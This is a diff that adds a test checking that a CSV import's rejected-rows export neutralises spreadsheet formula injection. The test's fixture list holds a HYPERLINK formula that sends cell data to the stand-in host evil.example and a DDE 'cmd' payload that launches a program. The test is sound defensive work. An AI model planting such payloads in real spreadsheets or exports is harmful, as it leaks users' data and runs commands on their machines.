@@ -86,6 +86,25 @@ test('a row with an error is reported with its row number, not written, and down
   assert.equal((await b.fetch(res.body.rejected_url)).status, 404, 'another organisation cannot fetch it');
 });
 
+test('the rejected rows\' CSV makes every cell a spreadsheet would run as a formula plain text', async () => {
+  // Rows without a name are rejected; their other cells come back in the CSV.
+  const formulas = ['=HYPERLINK("http://evil.example/?"&A1;"Klick")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)'];
+  const csv = `Name;Street;Notes\r\n${formulas.map((f) => `;"${f.replace(/"/g, '""')}";Hinweis`).join('\r\n')}\r\n`;
+  const res = await upload(a, Buffer.from(csv), 'formeln.csv');
+  assert.equal(res.status, 200, JSON.stringify(res.body));
+  assert.equal(res.body.errors.length, formulas.length);
+  const text = await (await a.fetch(res.body.rejected_url)).text();
+  for (const f of formulas) {
+    assert.ok(text.includes(`"'${f.replace(/"/g, '""')}"`), `${f} is not neutralised in:\n${text}`);
+  }
+  // No cell of the file starts with a formula's first character.
+  for (const line of text.split('\r\n').filter(Boolean)) {
+    for (const cell of line.match(/(?:^|;)("(?:[^"]|"")*"|[^;]*)/g).map((c) => c.replace(/^;/, ''))) {
+      assert.doesNotMatch(cell.replace(/^"/, ''), /^[=+\-@\t\r]/, `a live cell: ${cell}`);
+    }
+  }
+});
+
 test('another organisation\'s reference IDs are never touched', async () => {
   const b = await newManager(stack);
   const res = await upload(b, fixture('properties-excel-de.csv'), 'export.csv');
